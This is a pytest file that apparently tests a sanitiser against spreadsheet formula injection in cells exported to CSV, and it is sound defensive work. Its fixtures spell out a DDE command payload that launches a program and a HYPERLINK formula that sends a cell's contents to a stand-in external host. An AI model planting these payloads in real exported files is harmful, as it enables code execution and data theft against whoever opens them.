"""No cell that somebody wrote is a formula to whoever opens the file."""

import csv
import re
from io import StringIO
from pathlib import Path

import pytest

import gateway
from gateway.numbers import sheets
from gateway.redirects import template
from gateway.spreadsheets import harmless

COMMAND = "cmd|' /C calc'!A0"
FORMULAS = [
    *(f"{sign}{COMMAND}" for sign in "=+-@＝＋－＠−"),
    *(f"{space}={COMMAND}" for space in (" ", "\t", "\r", "\n", "\u00a0", "\u200b", '"', "'")),
    '=HYPERLINK("https://elsewhere.example/?"&A1,"klik")',
    "\tjalan",
    "\rjalan",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_begins_like_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell).startswith("'")
    assert harmless(cell).endswith(cell[-5:])


@pytest.mark.parametrize("parted_by", [",", ";", "\t", "|"])
@pytest.mark.parametrize(
    "formula", [f"={COMMAND}", f"+{COMMAND}", f'"={COMMAND}', f" @{COMMAND}", "-2+3+cmd|x"]
)
def test_nor_is_what_stands_behind_a_sign_at_which_another_program_parts_cells(
    parted_by: str, formula: str
) -> None:
    written = StringIO()
    csv.writer(written, delimiter=";").writerow([harmless(f"jalan rusak{parted_by}{formula}")])
    for cell in re.split(rf"[;{parted_by}\r\n]", written.getvalue()):
        assert not re.match(r"[\s\"]*[=+\-@]", cell), written.getvalue()


@pytest.mark.parametrize(
    "text",
    [
        "Jalan rusak",
        "Rp 5.000,- per orang",
        "a = b",
        "budi@contoh.example",
        "RT 01, RW 02; dekat pasar",
        "",
        "'n",
    ],
)
def test_what_people_write_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_nobody_else_writes_a_file_for_a_spreadsheet() -> None:
    """Whoever does comes by `harmless`, and is named here."""
    code = Path(gateway.__file__).parent
    writers = {path for path in code.rglob("*.py") if "csv.writer" in path.read_text()}
    assert writers == {Path(sheets.__file__), Path(template.__file__)}
    formulas = {
        path
        for path in code.rglob("*.py")
        if re.search(r"\.write(_row|_formula|_url)?\(\d", path.read_text())
    }
    assert not formulas
